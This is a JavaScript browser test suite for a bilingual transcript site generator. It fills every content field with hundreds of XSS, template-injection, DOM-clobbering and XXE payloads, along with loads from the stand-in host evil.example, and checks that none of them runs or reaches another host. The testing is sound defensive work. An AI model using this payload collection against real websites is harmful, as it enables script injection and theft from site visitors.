// Hundreds of payloads in every field that takes text, loaded in Chromium: nothing of them runs,
// asks another host or becomes an element; it is text, and structured data and feeds hold it as data.
import assert from "node:assert/strict";
import { readFile, readdir } from "node:fs/promises";
import path from "node:path";
import { after, before, test } from "node:test";
import { openSite } from "./site.mjs";

// ---- Payloads ----

/** What a page must never print: said by everything that a payload can call. */
const MARK = "DIGLOT-PWNED";
/** A host that nothing may be asked of, and one that pictures and recordings are at. */
const EVIL = "evil.example";
const MEDIA = "media.example";

/** Markup that runs something by itself; `@` stands for the call. */
const MARKUP = [
  "<script>@</script>", "<script src=//evil.example/a.js></script>", "<script type=module>@</script>", "<ScRiPt >@</sCrIpT >",
  "<script/x>@</script/x>", "<script\t>@</script>", "<<script>@//<</script>", "<img src=x onerror=@>", "<img/src=x/onerror=@>",
  "<img src=x:x onerror=\"@\">", "<IMG SRC=x ONERROR='@'>", "<img src=x onerror=@//", "<img srcset=x onerror=@>",
  "<svg onload=@>", "<svg/onload=@>", "<svg><script>@</script></svg>", "<svg><script>&#112;wned()</script>", "<svg><a xlink:href=javascript:@><text>x</text></a></svg>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:@>", "<svg><style><img src=x onerror=@></style></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.@</script>'></iframe></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=@></svg>#x'></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:@>x</maction></math>", "<math href=javascript:@>x</math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=@&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
  "<noscript><p title=\"</noscript><img src=x onerror=@>\">", "<template><img src=x onerror=@></template>", "<xmp><p title=\"</xmp><img src=x onerror=@>\">",
  "<select><iframe></select><img src=x onerror=@>", "<table><td><svg><desc><table><td><img src=x onerror=@>",
  "<iframe src=javascript:@></iframe>", "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<iframe src=//evil.example></iframe>",
  "<object data=javascript:@></object>", "<object data=//evil.example/a.swf></object>", "<embed src=javascript:@>", "<embed src=//evil.example/a>",
  "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:@'>",
  "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=preload as=image href=//evil.example/a.png>", "<link rel=prefetch href=//evil.example/>",
  "<style>@import '//evil.example/a.css';</style>", "<style>*{background:url(//evil.example/a.png)}</style>", "<p style=background:url(//evil.example/b.png)>x</p>",
  "<body onload=@>", "<body onpageshow=@ background=//evil.example/c.png>", "<html onmousemove=@>", "<frameset onload=@><frame src=//evil.example></frameset>",
  "<details open ontoggle=@>x</details>", "<video autoplay><source onerror=@ src=x></video>", "<video poster=//evil.example/d.png></video>", "<audio src=x onerror=@></audio>",
  "<input autofocus onfocus=@>", "<textarea autofocus onfocus=@></textarea>", "<select autofocus onfocus=@></select>", "<button autofocus onfocus=@>x</button>",
  "<form action=javascript:@><input type=submit autofocus></form>", "<form id=f action=//evil.example></form><button form=f formaction=javascript:@>x</button>", "<isindex action=javascript:@ type=image>",
  "<marquee onstart=@>x</marquee>", "<keygen autofocus onfocus=@>", "<x onpointerrawupdate=@ contenteditable autofocus onfocus=@ tabindex=1>x</x>",
  "<a href=javascript:@ autofocus onfocus=@>x</a>", "<a href='data:text/html,<script>@</script>' ping=//evil.example>x</a>", "<portal src=//evil.example></portal>",
  "<dialog open onclose=@>x</dialog>", "<div popover id=pop onbeforetoggle=@>x</div>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=@>x</b>",
  "<div onscrollsnapchange=@ style=overflow:scroll>x</div>", "<slot onslotchange=@></slot>", "<custom-element is=x onload=@>",
  "<template shadowrootmode=open><script>@</script></template>", "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/\"]}]}</script>",
];

/** What ends whatever the markup may stand in. */
const WRAPPERS = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</title></script></style>${markup}`,
  (markup) => `--><!-->]]>${markup}`,
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (markup) => encodeURIComponent(markup).replaceAll("%20", " ").replaceAll("%40", "@"),
  (markup) => markup.replace("<", "<\0").replaceAll("=", "=\0"),
  (markup) => markup.replaceAll("<", "＜").replaceAll(">", "＞"),
];

/** What reaches for an attribute, a template, a string of a script, a name of the page. */
const OTHERS = [
  "\" onmouseover=@ x=\"", "' onmouseover=@ x='", "` onmouseover=@ x=`", "x onmouseover=@ autofocus tabindex=0 onfocus=@", "\"/onmouseover=@/x=\"", "\"\tonmouseover=@\t\"",
  "\\\" onmouseover=@ x=\\\"", "&quot; onmouseover=@ x=&quot;", "&#34; onmouseover=@", "\" style=\"background:url(//evil.example/e.png)\"", "\" src=//evil.example/f.png \"",
  "{{7*7}}@", "{{ 7*7 }}@", "{% raw %}@", "{% include \"base.html\" %}@", "{{ site | safe }}@", "{# @ #}", "{{ __tera_context }}@", "${@}", "#{@}", "<%= @ %>", "[[@]]", "{{constructor.constructor('@')()}}",
  "';@;//", "\";@;//", "\\';@;//", "`;@;//", "</script><script>@</script>", "<!--<script>@", "*/@/*", "\u2028@\u2029", "//\u2028@", "-->@", "<!--@-->", "]]>@<![CDATA[", "<![CDATA[@]]>", "<?xml-stylesheet href=\"//evil.example/x.xsl\"?>@",
  "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;@", "&e;@", "&#0;@", "&#x1;@", "\u0001transcript\u0001@", "\0@\0", "\u001b[31m@", "\ufeff@", "\u202e@\u202c", "\u2066@", "\ufffe@\uffff", "\u{e0001}@",
  "<a id=diglot name=diglot>@</a>", "<form id=transcript><input name=querySelectorAll></form>@", "<img name=body id=body>@", "<a id=location href=//evil.example>@</a>", "<form name=document><input name=getElementById>@</form>",
  "<input id=mode-lines type=radio name=mode>@", "<div id=content class=bar>@</div>", "<i id=__proto__ class=modes>@</i>", "<b id=part-1 class='t s0'>@</b>", "<div class=transcript id=show-notes>@</div>",
  "red;}*{background:url(//evil.example/g.png)}@", "expression(@)", "url(javascript:@)", "\\3c script\\3e @", "+ADw-script+AD4-@", "\x1b$B<script>@", "¼script¾@¼/script¾",
  "javascript:@", "data:text/html,<script>@</script>", "//evil.example/@", "\\\\evil.example\\@", "mailto:a@b.c?subject=@", "[x](javascript:@)", "![x](javascript:@)", "<javascript:@>", "[x]: javascript:@", "**<b onclick=@>**",
];

/** Addresses that run something, in all disguises. */
const SCHEMES = [
  "javascript:@", "JaVaScRiPt:@", " javascript:@", "\u0001javascript:@", "java\tscript:@", "java\nscript:@", "java\rscript:@", "javascript\t:@", "\u00a0javascript:@", "\ufeffjavascript:@",
  "javascript://a.b/%0a@", "javascript:/*a*/@", "javascript:\\u0070wned()//@", "&#106;avascript:@", "&#x6A;avascript:@", "java&Tab;script:@", "javascript&colon;@", "javas\\cript:@", "%6aavascript:@", "javascript%3a@",
  "vbscript:@", "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+@", "data:image/svg+xml,<svg onload=@>", "blob:@", "filesystem:@", "view-source:javascript:@", "feed:javascript:@",
  "about:blank#@", "file:///etc/passwd?@", "intent:@", "jar:javascript:@", "//evil.example/@", "/\\evil.example/@", "https:evil.example/@", "https://evil.example@evil.example/@", "http://[::1]/@", "https://a.b/\"onmouseover=@ x=\"", "https://a.b/'><script>@</script>", "?\"><script>@</script>",
];
const TAILS = ["", "//", "\"", "'", "<", ">", "%0a", "#", " "];

/** Every text with a number of its own in its call, so that all are different. */
function numbered(texts) {
  return texts.map((text, index) => text.replaceAll("@", `pwned(${index + 1})`) + (text.includes("@") ? "" : `<!--pwned(${index + 1})-->`));
}
const PAYLOADS = numbered([...MARKUP.flatMap((markup, index) => WRAPPERS.filter((_, at) => at < 4 || (at + index) % 3 === 0).map((wrap) => wrap(markup))), ...OTHERS]);
const ADDRESSES = numbered(SCHEMES.flatMap((scheme) => TAILS.map((tail) => scheme + tail)));

/** What of a payload a page can hold: no control characters, no white space at its ends. */
function shown(text) {
  return text.replace(/[\0-\x08\x0b-\x1f\x7f]/g, "").replace(/\s+/gu, " ").trim();
}

// ---- The site ----

/** How many entries every field is tried with. */
const COUNT = 320;

/** A string as TOML, YAML and JSON take it. */
const quoted = (text) => JSON.stringify(text).replaceAll("\x7f", "\\u007f");
const inLine = (text) => text.replace(/[\n\r]/g, " ");
/** An address in every form that notes can link by, and one that a picture has. */
function notedLinks(url, picture) {
  const local = picture.replace(/\/\/|\/\\|https?:/g, "").replaceAll("'", "&apos;");
  return `[x](<${inLine(url).replace(/[<>]/g, "\\$&")}>) [y](${url}) <${url}>\n\n<a href="${url.replaceAll("\"", "&quot;")}">z</a> <img src='${local}'>\n\n`;
}
/** Markdown that says exactly this text. */
const escaped = (text) => inLine(text).replace(/[!-/:-@[-`{-~]/g, "\\$&");

const payload = (index) => PAYLOADS[index % PAYLOADS.length];
/** The titles of the numbered episodes, in English. */
const titles = () => Array.from({ length: COUNT }, (_, index) => shown(payload(index + 370)));

function files() {
  const address = (index) => ADDRESSES[index % ADDRESSES.length];
  const media = (index) => `https://${MEDIA}/${payload(index)}`;
  const list = [["site.toml", "title = \"Hostile\"\nlanguages = [\"zh-Hans\", \"en\"]\n[build]\npage_size = 40\nfeed_size = 500\n"]];
  let people = "";
  for (let index = 0; index < COUNT; index++) {
    // Each field of an entry has another payload, and each field has every payload in some entry.
    const at = (offset) => payload(index + offset * 37);
    const id = `p${index}`;
    people += `[${id}]\nname = { zh-Hans = ${quoted(`灯${at(0)}`)}, en = ${quoted(at(0))} }\naliases = [${quoted(`${at(1)} alias ${index}`)}]\n`
      + `bio = { zh-Hans = ${quoted(`灯${at(2)}`)}, en = ${quoted(at(2))} }\nimage = ${quoted(media(index + 50))}\n`
      + `links = [{ title = ${quoted(at(3))}, url = ${quoted(address(index))} }, { title = ${quoted(at(4))}, url = ${quoted(`https://a.b/${at(4)}`)} }]\n\n`;
    list.push([`content/s${index}/show.toml`, `title = { zh-Hans = ${quoted(`灯${at(5)}`)}, en = ${quoted(at(5))} }\ndescription = { zh-Hans = ${quoted(`灯${at(6)}`)}, en = ${quoted(at(6))} }\n`
      + `cover = ${quoted(media(index + 90))}\nhosts = ["${id}"]\nlinks = [{ title = ${quoted(at(7))}, url = ${quoted(address(index + 11))} }, ${quoted(address(index + 22))}]\n`]);
    const label = shown(inLine(`${at(8)} ${index}`));
    const line = shown(inLine(at(9)));
    list.push([`content/s${index}/e${index}.txt`, `+++\ntitle = { zh-Hans = ${quoted(`灯${at(10)}`)}, en = ${quoted(at(10))} }\nsummary = { zh-Hans = ${quoted(`灯${at(11)}`)}, en = ${quoted(`${at(11)} http://a.b/${at(11)}`)} }\n`
      + `cover = ${quoted(media(index + 130))}\naudio = ${quoted(media(index + 170))}\ntags = [${quoted(at(12))}]\nhighlights = [${quoted(line)}]\ndate = 2026-01-01\n`
      + `links = [{ title = ${quoted(at(13))}, url = ${quoted(address(index + 33))} }]\n[speakers]\n${quoted(label)} = "${id}"\n+++\nSpeaker 0\n\n开。\n\nOpen.\n\n${label}\n\n灯${line}\n\n${line}\n`]);
  }
  list.push(["content/people.toml", people]);
  list.push(["content/cues.txt", PAYLOADS.map((text) => `Speaker 0\n\n灯${inLine(text)}\n\n${inLine(text)}\n\n`).join("")]);
  for (let from = 0; from < PAYLOADS.length; from += 20) {
    const some = PAYLOADS.slice(from, from + 20);
    const short = some.filter((text) => shown(text).length < 55);
    list.push([`content/labels/l${from}.md`, "## Transcript\n\n" + some.map((text) => `## ${escaped(shown(text))}\n\n**Ada:** ${escaped(text)}\n\n`).join("")
      + short.map((text) => `**${escaped(shown(text))}:** said.\n\n`).join("")]);
  }
  const notes = (text, index) => `${text}\n\n- ${inLine(text)}\n\n> ${inLine(text)}\n\n# ${inLine(text)}\n\n${notedLinks(address(index), address(index + 7))}`
    + `\`\`\`${inLine(text)}\n${text}\n\`\`\`\n\n| ${inLine(text)} |\n|---|\n| ${inLine(text)} |\n\n`;
  for (let from = 0; from < PAYLOADS.length; from += 4) {
    const some = PAYLOADS.slice(from, from + 4);
    const all = some.map((text, at) => notes(text, from + at)).join("");
    if (from % 8 === 0) {
      list.push([`content/notes/n${from}/episode.md`, `+++\ntitle = "Notes ${from}"\n+++\n${all}`]);
    } else {
      const front = `title: ${quoted(some[0])}\ndescription: ${quoted(some[1])}\ntags: [${some.map(quoted).join(", ")}]\n`;
      list.push([`content/notes/n${from}.md`, `---\n${front}---\nBelow.\n\n${all}\n## Transcript\n\n${some.map((text) => `**Ada:** ${escaped(text)}\n\n`).join("")}`]);
    }
  }
  PAYLOADS.filter((text) => !/[/\0-\x1f\x7f]/.test(text) && text === text.trim() && Buffer.byteLength(text) < 200).forEach((text, index) => {
    const folder = `content/files/f${index}`;
    list.push([`${folder}/episode.md`, `+++\ntitle = "Files ${index}"\ncover = ${quoted(`${text}.png`)}\naudio = ${quoted(`${text}.mp3`)}\n+++\nNotes.\n`]);
    list.push([`${folder}/${text}.png`, "picture"], [`${folder}/${text}.mp3`, "recording"]);
  });
  return list;
}

// ---- Looking ----

/** Runs before everything on every page: what a payload can call tells of itself. */
function trap(mark) {
  for (const name of ["pwned", "alert", "confirm", "prompt", "print", "open"]) {
    Object.defineProperty(window, name, { value: (...words) => console.error(`${mark} ${name} ${words}`), configurable: false, writable: false });
  }
}

/** What a page has that only a payload can have brought. */
function look() {
  const troubles = [];
  const say = (what, element) => troubles.push(`${what}: ${element.outerHTML.slice(0, 200)}`);
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "ping" || name === "formaction") say(`an attribute ${name}`, element);
      const links = ["href", "src", "action", "data", "poster", "background", "xlink:href", "srcset", "content"].includes(name);
      if (links && /^(javascript|vbscript|data|blob|file|filesystem|intent|view-source):/i.test(value.replace(/[\0-\x20]/g, "")) && element.localName !== "meta") say("an address that runs", element);
    }
  }
  for (const element of document.querySelectorAll("iframe, object, embed, base, meta[http-equiv], svg, math, template:not(.who > template, .episode > #return, #tool-find, #tool-pick, body > .words, .sifter + .words), frame, portal, marquee, video, input:not(.modes input, .who input, .sifter input, .keys input), form:not(.modes, .who > form, .sifter > form), textarea, select:not(.player > .tools select, .sifter select), button:not(.bar > .finder, .player > .tools button, #transcript > .pick > button, .return button)")) say("an element", element);
  for (const script of document.querySelectorAll("script")) {
    const named = script.src && new URL(script.src).origin === location.origin && /\/repo\/(bar|columns|contents|diglot|lines|links|list|player|modes|return|voices|words)\.js\?/.test(script.src);
    const inline = /^(\{\s*const (root = document\.documentElement, spoken = \["zh-Hans", "en"\]|\{ dataset \} = )|for \(const \[asked, src\] of \[\s)/.test(script.textContent);
    const own = script.type === "application/ld+json" || script.type === "importmap" || named || (!script.src && inline);
    if (!own) say("a script", script);
  }
  for (const link of document.querySelectorAll("link")) {
    if (!/^(canonical|alternate|icon|apple-touch-icon|manifest|stylesheet)$/.test(link.rel) || new URL(link.href).origin !== location.origin) say("a link", link);
  }
  for (const style of document.querySelectorAll("style")) if (!style.closest("head") || /url|import|evil/.test(style.textContent)) say("a style", style);
  for (const element of document.querySelectorAll("[style]")) if (!/^--cols: ?\d+;?( --bar: \d+px;)?$/.test(element.getAttribute("style"))) say("a style", element);
  for (const element of document.querySelectorAll(".notes [id], .notes [name]")) if (!element.id.startsWith("notes-")) say("a name in the notes", element);
  const ids = [...document.querySelectorAll("[id]")].map((element) => element.id);
  if (new Set(ids).size !== ids.length) troubles.push(`ids occur twice: ${ids.filter((id, at) => ids.indexOf(id) !== at)}`);
  for (const [selector, count] of [["main", 1], ["h1", 1], ["body > footer", 1], ["body > header", 1], ["title", 1], ["script:not([src], [type])", 1 + [".modes", ".modes, .who"].filter((tool) => document.querySelector(tool)).length]]) {
    if (document.querySelectorAll(selector).length !== count) troubles.push(`${document.querySelectorAll(selector).length} of ${selector}`);
  }
  if (!/^is-[\w]+$/.test(document.body.className)) troubles.push(`the body is ${document.body.className}`);
  if (document.body.textContent.includes("4949") || /\b49pwned/.test(document.body.textContent)) troubles.push("a template was run");
  const data = [...document.querySelectorAll("script[type='application/ld+json']")].map((script) => script.textContent);
  return { troubles, data, title: document.title };
}

/** A tab that notes whatever happens in it. */
async function watchedTab(site, troubles) {
  const context = await site.browser.newContext({ viewport: { width: 900, height: 900 } });
  await context.addInitScript(trap, MARK);
  const tab = await context.newPage();
  const origin = new URL(site.url).origin;
  const state = { at: "" };
  tab.on("request", (request) => {
    const { origin: asked, host, protocol } = new URL(request.url());
    const isMedia = host === MEDIA && ["image", "media"].includes(request.resourceType());
    if (asked !== origin && !isMedia && protocol !== "about:") troubles.push(`${state.at} asks another host: ${request.url()}`);
  });
  tab.on("console", (message) => { if (message.text().includes(MARK)) troubles.push(`${state.at} ran: ${message.text()}`); });
  tab.on("pageerror", (error) => troubles.push(`${state.at}: script error: ${error.message}`));
  tab.on("dialog", (dialog) => { troubles.push(`${state.at}: a dialog`); dialog.dismiss(); });
  tab.on("popup", () => troubles.push(`${state.at}: a window`));
  tab.on("framenavigated", (frame) => { if (frame !== tab.mainFrame() || !frame.url().startsWith(state.at.split("#")[0])) troubles.push(`${state.at} leads to ${frame.url()}`); });
  return { context, tab, state };
}

/** Looks at every page, some at a time. */
async function visit(site, pages, troubles, each = () => {}) {
  const queue = [...pages];
  const work = async () => {
    const { context, tab, state } = await watchedTab(site, troubles);
    for (let page = queue.pop(); page; page = queue.pop()) {
      state.at = page.url;
      await tab.goto(page.url, { waitUntil: "load" });
      const found = await tab.evaluate(look);
      troubles.push(...found.troubles.map((trouble) => `${page.name}: ${trouble}`));
      await each(tab, page, found);
      assert.ok(troubles.length < 60, troubles.join("\n"));
    }
    await context.close();
  };
  await Promise.all([work(), work(), work()]);
}

function checkData(page, data, troubles) {
  if (page.kind === "episode" && data.length !== 1) troubles.push(`${page.name}: ${data.length} structured data`);
  return data.map((text) => {
    const parsed = JSON.parse(text);
    if (typeof parsed !== "object" || Array.isArray(parsed)) troubles.push(`${page.name}: structured data is no object`);
    return parsed;
  });
}

let site;
before(async () => { site = await openSite({ files: files() }); }, { timeout: 300_000 });
after(() => site?.close());

test("nothing runs on any page, whatever its fields hold", { timeout: 900_000 }, async () => {
  assert.ok(new Set(PAYLOADS).size >= 300 && new Set(ADDRESSES).size >= 300);
  const troubles = [];
  const names = new Set();
  let described = 0;
  await visit(site, site.pages, troubles, (_, page, { data }) => {
    for (const parsed of checkData(page, data, troubles)) {
      described += 1;
      for (const name of [parsed.name, parsed.alternateName, parsed.partOfSeries?.name]) if (name) names.add(shown(name));
    }
  });
  const missing = titles().filter((text) => !names.has(text));
  console.log(`injection: ${PAYLOADS.length} payloads and ${ADDRESSES.length} addresses, ${site.pages.length} pages, ${described} with structured data`);
  assert.deepEqual(troubles, []);
  assert.deepEqual(missing, [], "titles are in the structured data as they are");
});

test("a payload that someone says is read as text", { timeout: 120_000 }, async () => {
  const page = site.pages.find((page) => page.name.endsWith(path.join("cues", "index.html")));
  const { context, tab, state } = await watchedTab(site, []);
  state.at = page.url;
  await tab.goto(page.url);
  const texts = new Set((await tab.evaluate(() => [...document.querySelectorAll("#transcript .t > div > p")].map((line) => line.textContent))).map(shown));
  await context.close();
  const lost = PAYLOADS.map(inLine).filter((text) => !texts.has(shown(text)) || !texts.has(shown(`灯${text}`)));
  assert.deepEqual(lost, []);
});

test("feeds and sitemap are well-formed, and hold the titles", { timeout: 300_000 }, async () => {
  const { context, tab, state } = await watchedTab(site, []);
  state.at = site.url;
  await tab.goto(`${site.url}404.html`);
  const all = (await readdir(site.folder, { recursive: true })).filter((name) => name.endsWith(".xml"));
  const inFeeds = new Set();
  for (const name of all) {
    const found = await tab.evaluate((xml) => {
      const parsed = new DOMParser().parseFromString(xml, "application/xml");
      return {
        error: parsed.querySelector("parsererror")?.textContent,
        titles: [...parsed.querySelectorAll("item > title, channel > title")].map((title) => title.textContent),
        odd: [...parsed.querySelectorAll("*")].map((element) => element.nodeName).filter((name) => /^(script|svg|img|iframe)$/i.test(name)),
        instructions: [...parsed.childNodes].filter((node) => node.nodeType === Node.PROCESSING_INSTRUCTION_NODE || node.nodeType === Node.DOCUMENT_TYPE_NODE).length,
      };
    }, await readFile(path.join(site.folder, name), "utf8"));
    assert.equal(found.error, undefined, name);
    assert.deepEqual(found.odd, [], name);
    assert.equal(found.instructions, 0, name);
    for (const title of found.titles) inFeeds.add(shown(title));
  }
  await context.close();
  // XML has no way to write these two.
  const every = [...inFeeds].join("\n");
  const missing = titles().filter((text) => !every.includes(shown(text.replace(/[\ufffe\uffff]/g, ""))));
  console.log(`injection: ${all.length} XML files, ${inFeeds.size} titles`);
  assert.deepEqual(missing, []);
});

test("hostile fragments and settings do nothing", { timeout: 120_000 }, async () => {
  const bilingual = site.pages.filter((page) => page.kind === "episode" && page.bilingual);
  const page = bilingual.toSorted((a, b) => a.size - b.size)[0];
  const troubles = [];
  const { context, tab, state } = await watchedTab(site, troubles);
  const hostile = [...PAYLOADS.filter((_, index) => index % 10 === 0), "__proto__", "constructor", "mode-lines", "transcript", "content", "%", "%E0%A4", ":~:text=pwned", "x".repeat(100_000)];
  let tried = 0;
  for (const text of hostile) {
    state.at = page.url;
    await tab.goto(page.url);
    await tab.evaluate((text) => {
      localStorage.setItem("diglot:mode", text);
      location.hash = text;
    }, text);
    await tab.reload();
    await tab.evaluate(() => {
      for (const cue of document.querySelectorAll(".t > div")) cue.dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
      document.querySelector("#mode-en")?.click();
    });
    const found = await tab.evaluate(look);
    troubles.push(...found.troubles);
    tried += 1;
  }
  await context.close();
  console.log(`injection: ${tried} fragments and stored settings`);
  assert.deepEqual(troubles, []);
});

test("the site's own texts are text, in its templates too", { timeout: 300_000 }, async () => {
  const every = quoted(PAYLOADS.map(shown).join(" | "));
  const own = await openSite({
    files: [
      ["site.toml", `title = ${every}\ndescription = ${every}\nlanguages = ["zh-Hans", "en"]\n[theme]\nfooter = ${every}\n[extra]\nall = [${PAYLOADS.map(quoted).join(", ")}]\n`],
      // Quotes that a minifier could take off, and a name without spaces around it.
      ["templates/404.html", "{% extends \"base.html\" %}{% block content %}<h1 title=\"{{ui.not_found}}\">x</h1>{% for x in site.extra.all %}<p title=\"{{x}}\" class='{{x}}' lang=en data-x=\"a{{x}}\">{{x}}</p>{% endfor %}{% endblock content %}"],
      ["content/a.txt", "Speaker 0\n\n灯。\n\nA lamp.\n"],
    ],
  });
  try {
    const troubles = [];
    let paragraphs = [];
    await visit(own, own.pages, troubles, async (tab, page) => {
      if (page.kind !== "404") return;
      paragraphs = await tab.evaluate(() => [...document.querySelectorAll("main p")].map((own) => [own.textContent, own.title, own.className, own.attributes.length]));
    });
    assert.deepEqual(troubles, []);
    assert.deepEqual(paragraphs.map(([text]) => shown(text)), PAYLOADS.map(shown));
    for (const [text, title, name, count] of paragraphs) assert.deepEqual([title, name, count], [text, text, 4]);
    console.log(`injection: ${own.pages.length} pages with every payload in the site's own texts`);
  } finally {
    await own.close();
  }
});

test("what could only be an attack is refused by name", async () => {
  for (const [line, code] of [
    ["[theme]\naccent = \"red} *{background:url(//evil.example/a)}\"\n", "colour"],
    ["base_url = \"javascript:pwned()\"\n", "base-url"],
  ]) {
    await assert.rejects(openSite({ files: [["site.toml", line], ["content/a.txt", "Speaker 0\n\nx\n"]] }), new RegExp(code));
  }
  for (const key of ["cover", "audio"]) {
    const text = `+++\n${key} = "javascript://a.b/%0apwned()"\n+++\nSpeaker 0\n\nx\n`;
    await assert.rejects(openSite({ files: [["content/a.txt", text]] }), /missing-file/);
  }
});
